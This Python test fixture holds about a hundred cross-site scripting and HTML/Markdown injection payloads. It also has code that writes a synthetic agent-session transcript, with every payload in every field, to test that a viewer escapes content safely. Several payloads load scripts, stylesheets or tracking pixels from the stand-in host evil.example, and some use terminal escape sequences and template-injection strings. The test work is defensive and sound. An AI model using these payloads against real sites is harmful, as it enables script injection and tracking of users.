"""Texts that try to run something in a page, and a history that has them in every place where a transcript puts text.

Each payload calls `alert` or sets `window.hacked`, so that a test sees it when one of them gets through.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

PAYLOADS: tuple[str, ...] = (
    # elements
    "<script>alert(1)</script>",
    "<script>window.hacked=1</script>",
    "\x04script\x05window.hacked=1\x04/script\x05",
    "```html\n\x04img src=x onerror=window.hacked=1\x05\n```",
    "<ScRiPt>window.hacked=1</sCrIpT>",
    "<script/src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</pre></code><script>window.hacked=1</script>",
    "</details></article></main><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script><!--",
    "]]><script>window.hacked=1</script>",
    "<<script>window.hacked=1//<</script>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=x onerror='alert(1)'>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=window.hacked=1>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/pixel.gif 1x'>",
    "<svg onload=window.hacked=1>",
    "<svg/onload=alert(1)//",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.hacked=1'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "<math href='javascript:alert(1)'>click</math>",
    "<iframe src='javascript:window.parent.hacked=1'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<input autofocus onfocus=window.hacked=1>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    # out of an attribute
    '" onmouseover="window.hacked=1" x="',
    "' onmouseover='window.hacked=1' x='",
    '"><script>window.hacked=1</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) "',
    '#"><svg onload=alert(1)>',
    "x` onerror=`alert(1)",
    # Markdown
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    '[click](https://example.org "x" onmouseover="alert(1))',
    "[click]: javascript:alert(1)\n\n[click]",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+ "t")',
    '![x" onerror="window.hacked=1](x)',
    "<javascript:alert(1)>",
    "<https://example.org/\"onmouseover='alert(1)'>",
    "```html onload=alert(1)\n<script>window.hacked=1</script>\n```",
    '```"><script>window.hacked=1</script>\nx\n```',
    "`<script>window.hacked=1</script>`",
    "> <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <svg onload=alert(1)> | [x](javascript:alert(1)) |",
    '**<b onclick=alert(1)>**" onclick="alert(1)',
    'https://example.org/"><script>window.hacked=1</script>',
    "https://example.org/?q='onmouseover='alert(1)",
    # characters that change what comes after them
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>\u2066",
    "\ufeff<script>window.hacked=1</script>",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>window.hacked=1</script>\u2029",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[31m<script>window.hacked=1</script>\x1b[0m",
    '\x1b[38;5;"><script>alert(1)</script>m',
    "\x1b]0;<script>window.hacked=1</script>\x07title",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "{{script}}{{title}}{{conversation}}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)

SESSION = "0badc0de-0000-4000-8000-00000000beef"
AGENT = "a0badc0de"


def everywhere(payload: str) -> dict[str, Any]:
    """A tool's input that says it in its keys and values."""
    return {payload: payload, "nested": {payload: [payload, {payload: payload}]}, "file_path": payload}


class _Log:
    """Lines of a transcript, each below the one before."""

    def __init__(self, **shared: Any) -> None:
        self.lines: list[dict[str, Any]] = []
        self.shared = shared

    def add(self, kind: str, *, uuid: str = "", **more: Any) -> None:
        number = len(self.lines)
        line = {
            "type": kind,
            "uuid": uuid or f"00000000-0000-4000-8000-{number:012}",
            "parentUuid": self.lines[-1]["uuid"] if self.lines else None,
            "timestamp": f"2026-05-01T{10 + number // 3600:02}:{number // 60 % 60:02}:{number % 60:02}.000Z",
            "userType": "external",
            "isSidechain": False,
            **self.shared,
            **more,
        }
        self.lines.append(line)

    def prompt(self, content: Any) -> None:
        self.add("user", message={"role": "user", "content": content})

    def answer(self, model: str, *blocks: dict[str, Any]) -> None:
        number = len(self.lines)
        usage = {"input_tokens": 1, "output_tokens": 1}
        message = {"id": f"msg_01{number:08}", "type": "message", "role": "assistant", "model": model, "usage": usage}
        self.add("assistant", message={**message, "content": list(blocks), "stop_reason": "end_turn"})

    def call(self, model: str, name: str, given: Any, result: Any, *, failed: bool = False, **outcome: Any) -> str:
        use = f"toolu_{len(self.lines):06}"
        self.answer(model, {"type": "tool_use", "id": use, "name": name, "input": given})
        block = {"type": "tool_result", "tool_use_id": use, "content": result, "is_error": failed}
        self.add("user", message={"role": "user", "content": [block]}, **outcome)
        return use

    def text(self) -> str:
        return "".join(json.dumps(line) + "\n" for line in self.lines)


def write_hostile_history(root: Path, payloads: tuple[str, ...] = PAYLOADS) -> str:
    """Write a session that has every payload in every place, with a subagent; gives the session's id."""
    paths = [payload.replace("\x00", "") for payload in payloads]
    project = root / "projects" / "-hostile"
    shared = {"sessionId": SESSION, "version": "2.1.325"}
    log = _Log(**shared)
    spawned = ""
    for number, payload in enumerate(payloads):
        cwd = f"/home/{paths[number]}"
        log.shared = {**shared, "cwd": cwd, "gitBranch": payload}
        _turn(log, payload)
        if number == 0:
            spawned = _spawn(log, payload)
    leaf = log.lines[-1]["uuid"]
    for payload in payloads:
        log.lines.append({"type": "summary", "summary": payload, "leafUuid": leaf})
        log.lines.append({"type": "ai-title", "aiTitle": payload, "sessionId": SESSION})
        log.lines.append({"type": payload, "sessionId": SESSION, "content": payload})
    log.lines.append({"type": "custom-title", "customTitle": "".join(payloads[:12]), "sessionId": SESSION})
    project.mkdir(parents=True, exist_ok=True)
    (project / f"{SESSION}.jsonl").write_text(log.text(), encoding="utf-8")
    agents = project / SESSION / "subagents"
    agents.mkdir(parents=True)
    inner = _Log(sessionId=SESSION, agentId=AGENT, isSidechain=True, version="2.1.325", cwd="/home", gitBranch="x")
    for payload in payloads:
        _turn(inner, payload)
    (agents / f"agent-{AGENT}.jsonl").write_text(inner.text(), encoding="utf-8")
    meta = {"agentType": payloads[0], "description": "".join(payloads[:5]), "toolUseId": spawned}
    (agents / f"agent-{AGENT}.meta.json").write_text(json.dumps(meta), encoding="utf-8")
    return SESSION


def _spawn(log: _Log, payload: str) -> str:
    given = {"subagent_type": payload, "description": payload, "prompt": payload}
    outcome: dict[str, Any] = {
        "toolUseResult": {"agentId": AGENT, "status": "completed", "content": [{"type": "text", "text": payload}]}
    }
    return log.call(payload, "Agent", given, [{"type": "text", "text": payload}], **outcome)


def _turn(log: _Log, payload: str) -> None:
    """A prompt with the payload and everything that can follow from it."""
    data = base64.b64encode(payload.encode("utf-8", "replace")).decode()
    source = {"type": "base64", "media_type": payload, "data": data}
    log.prompt(
        [
            {"type": "text", "text": payload},
            {"type": "image", "source": source},
            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": payload}},
            {"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": data}},
            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": data}},
            {"type": "document", "source": source},
        ]
    )
    log.answer(
        payload,
        {"type": "thinking", "thinking": payload, "signature": payload},
        {"type": "text", "text": payload},
        {"type": "text", "text": f"# {payload}\n\n- {payload}\n\n| {payload} |\n|---|\n| x |\n"},
    )
    text = [{"type": "text", "text": payload}]
    log.call(payload, "Bash", {"command": payload, "description": payload}, payload)
    log.call(payload, "Bash", {"command": payload}, payload, failed=True)
    log.call(payload, "Read", {"file_path": payload, "offset": payload}, f"     1\t{payload}\n     2\t{payload}")
    log.call(payload, "Write", {"file_path": f"/x/{payload}.html", "content": payload}, payload)
    patch = {"oldStart": payload, "oldLines": 1, "newStart": 1, "newLines": 1, "lines": [f"-{payload}", f"+{payload}"]}
    change = {"filePath": payload, "structuredPatch": [patch], "oldString": payload, "newString": payload}
    log.call(
        payload,
        "Edit",
        {"file_path": payload, "old_string": payload, "new_string": f"{payload}!"},
        payload,
        toolUseResult=change,
    )
    log.call(payload, "Grep", {"pattern": payload, payload: payload}, payload)
    log.call(payload, "TodoWrite", {"todos": [{"content": payload, "status": payload, "activeForm": payload}]}, payload)
    log.call(payload, "WebFetch", {"url": payload, "prompt": payload}, text)
    question = {"question": payload, "header": payload, "options": [{"label": payload, "description": payload}]}
    log.call(payload, "AskUserQuestion", {"questions": [question]}, payload)
    log.call(payload, "ExitPlanMode", {"plan": payload}, payload)
    log.call(payload, "NotebookEdit", {"notebook_path": payload, "new_source": payload, "cell_type": payload}, payload)
    log.call(payload, f"mcp__{payload}__{payload}", everywhere(payload), json.dumps({payload: payload}))
    log.call(payload, payload, everywhere(payload), text)
    for inner in (
        f"<command-name>{payload}</command-name><command-args>{payload}</command-args>",
        f"<local-command-stdout>{payload}</local-command-stdout>",
        f"<bash-input>{payload}</bash-input>",
        f"<bash-stdout>{payload}</bash-stdout><bash-stderr>{payload}</bash-stderr>",
        f"<task-notification><summary>{payload}</summary></task-notification>",
    ):
        log.prompt(inner)
    log.add("system", subtype="informational", content=payload, level=payload)
    log.add("system", subtype="api_error", content=payload, level="error")
    log.add("system", subtype="compact_boundary", content=payload, compactMetadata={"trigger": payload, "preTokens": 1})
    log.add("user", isCompactSummary=True, message={"role": "user", "content": payload})
    log.add("attachment", attachment={"type": "queued_command", "prompt": payload})
    log.add("assistant", isApiErrorMessage=True, message={"model": "<synthetic>", "content": text, "role": "assistant"})
    log.add(payload, subtype=payload, content=payload)
